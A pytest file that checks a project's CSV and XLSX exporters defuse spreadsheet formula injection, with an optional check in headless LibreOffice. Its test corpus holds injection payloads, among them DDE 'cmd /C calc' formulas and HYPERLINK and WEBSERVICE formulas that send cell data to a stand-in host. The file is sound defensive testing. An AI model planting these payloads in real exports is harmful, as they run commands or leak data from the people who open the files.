"""What people type stays text in a real spreadsheet: exported files opened by LibreOffice hold no formula.

The files are always made and read as text; with ``--office-suite`` LibreOffice, which must then be there, opens them.
"""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from counterfoil.records.export_csv import csv_of, harmless
from counterfoil.records.export_xlsx import xlsx_of

# Each begins, or may be taken to begin, a formula, a call to another program, or an address (OWASP, CSV Injection).
CORPUS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "　＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"a")',
    '=HYPERLINK("http://example.invalid/?x="&A1,"pay")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=IMPORTXML("http://example.invalid","//a")',
    '"=1+1"',
    '";=1+1',
    "'=1+1",
    '",=1+1,"',
    "a\n=1+1",
    "{=1+1}",
    "%0A=1+1",
    "|calc",
)
# A CSV cannot say that a cell is a text: there a number is a number to whoever opens it. A workbook can.
NUMBERS = ("1E5", "2026-11-22", "000123", "TRUE", "123456789012345678901234", "http://example.invalid")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
XLINK = "{http://www.w3.org/1999/xlink}"
# CSV in UTF-8 with commas and quotes; no recognition of special numbers is asked for, as when a person just opens it.
FILTER = "CSV:44,34,76,1"


def texts_of(form):
    return CORPUS if form == "csv" else CORPUS + NUMBERS


async def made(form):
    """A file of one column with the whole corpus, a text a row, by the very writers of the export."""

    async def pages():
        yield [(text,) for text in texts_of(form)]

    pieces = csv_of(("head",), pages()) if form == "csv" else xlsx_of(("head",), pages(), 0)
    return b"".join([piece async for piece in pieces])


def opened(folder: Path, raw: bytes, form: str) -> list[list[str]]:
    """The file as LibreOffice has it once opened, cell by cell; no cell is a formula or a link."""
    path = folder / f"corpus.{form}"
    path.write_bytes(raw)
    profile = f"-env:UserInstallation=file://{folder}/profile"
    filters = [f"--infilter={FILTER}"] if form == "csv" else []
    call = ["soffice", profile, "--headless", *filters, "--convert-to", "fods", "--outdir", str(folder), str(path)]
    done = subprocess.run(call, capture_output=True, text=True, timeout=110, check=False)
    assert done.returncode == 0, done.stderr
    rows = []
    for row in ET.parse(folder / "corpus.fods").iter(TABLE + "table-row"):  # noqa: S314 - of our own making
        cells = list(row.iter(TABLE + "table-cell"))
        for cell in cells:
            assert TABLE + "formula" not in cell.attrib, cell.attrib
            assert not list(cell.iter(TEXT + "a")), "an address one may click"
            assert not [name for each in cell.iter() for name in each.attrib if name == XLINK + "href"]
        rows.append(["\n".join("".join(_said(p)) for p in cell.iter(TEXT + "p")) for cell in cells])
    return [row for row in rows if any(row)]


def _said(paragraph):
    """The text of a paragraph; tabs and runs of spaces are elements of their own."""
    yield paragraph.text or ""
    for part in paragraph:
        if part.tag == TEXT + "tab":
            yield "\t"
        elif part.tag == TEXT + "s":
            yield " " * int(part.get(TEXT + "c", "1"))
        else:
            yield from _said(part)
        yield part.tail or ""


def plain(text):
    """Line ends as a spreadsheet keeps them: a paragraph each, whichever sign ended them."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def suite(request):
    return bool(request.config.getoption("--office-suite"))


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_text_of_the_corpus_becomes_a_formula(form, suite, tmp_path):
    raw = asyncio.run(made(form))
    if form == "csv":
        told = raw.decode("utf-8-sig")
        assert all(harmless(text).replace('"', '""') in told for text in CORPUS)
    else:
        assert raw.startswith(b"PK")
    if suite:
        rows = [row[0] for row in opened(tmp_path, raw, form)]
        expected = [harmless(text) if form == "csv" else text for text in texts_of(form)]
        assert [plain(row) for row in rows] == ["head", *map(plain, expected)]
